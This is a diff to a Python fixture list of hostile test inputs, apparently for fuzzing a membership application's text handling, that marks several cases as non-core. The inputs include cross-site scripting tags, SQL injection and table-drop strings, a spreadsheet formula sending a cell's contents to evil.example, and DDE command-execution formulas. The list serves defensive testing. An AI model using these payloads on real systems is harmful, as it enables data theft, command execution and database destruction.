@@ -51,7 +51,7 @@ class Hostile:
 TEXT = [
     # size
     Hostile("oversized_100k", "测" * 100_000),
-    Hostile("long_line_20k", "a" * 20_000),
+    Hostile("long_line_20k", "a" * 20_000, core=False),
     Hostile("long_unicode_astral", "𠀀" * 1_000, core=False),
     # control and invisible characters
     Hostile("nul", "名称\x00后缀", ALWAYS),
@@ -67,7 +67,7 @@ TEXT = [
     Hostile("lone_surrogate_bytes", "替代".encode() + b"\xed\xa0\x80", ALWAYS, core=False),
     Hostile("invalid_utf8", b"\xff\xfe\xc3\x28\xa0\xa1", ALWAYS),
     Hostile("overlong_utf8_lt", b"\xc0\xbcscript\xc0\xbe", ALWAYS, core=False),
-    Hostile("gbk_bytes", "四川省土木建筑学会".encode("gbk"), ALWAYS),
+    Hostile("gbk_bytes", "四川省土木建筑学会".encode("gbk"), ALWAYS, core=False),
     # markup and script
     Hostile("script_tag", "<script>alert(1)</script>"),
     Hostile("img_onerror", '"><img src=x onerror=alert(1)>'),
@@ -88,7 +88,7 @@ TEXT = [
     Hostile("format_string", "%s%s%n%x%(name)s{0}{}"),
     # SQL-looking
     Hostile("sql_or", "' OR 1=1 --"),
-    Hostile("sql_drop", "1; DROP TABLE society_member; --"),
+    Hostile("sql_drop", "1; DROP TABLE society_member; --", core=False),
     Hostile("sql_union", '" UNION SELECT password FROM society_user --', core=False),
     Hostile("like_wildcards", "%_%\\", core=False),
     # paths
@@ -102,12 +102,12 @@ TEXT = [
     Hostile("formula_hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"点击")'),
     Hostile("formula_cmd", "+cmd|' /C calc'!A0", core=False),
     Hostile("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0", core=False),
-    Hostile("formula_minus", "-1+1"),
+    Hostile("formula_minus", "-1+1", core=False),
     Hostile("formula_tab", "\t=1+1", core=False),  # the leading tab is stripped like space
     Hostile("tab_inside", "甲\t乙", ONE_LINE, core=False),
     # scripts and shapes of text
     Hostile("emoji", "👨‍👩‍👧‍👦🏗️🚧 桥梁"),
-    Hostile("rtl_text", "مرحبا بالعالم עברית"),
+    Hostile("rtl_text", "مرحبا بالعالم עברית", core=False),
     Hostile("zalgo", "Z̴̡̢̛a̷̧̛l̸̨̛g̵̢̛o̶̧̡", core=False),
     Hostile("ideographic_space_only", "\u3000 \u3000"),
     Hostile("null_words", "None null undefined NaN", core=False),
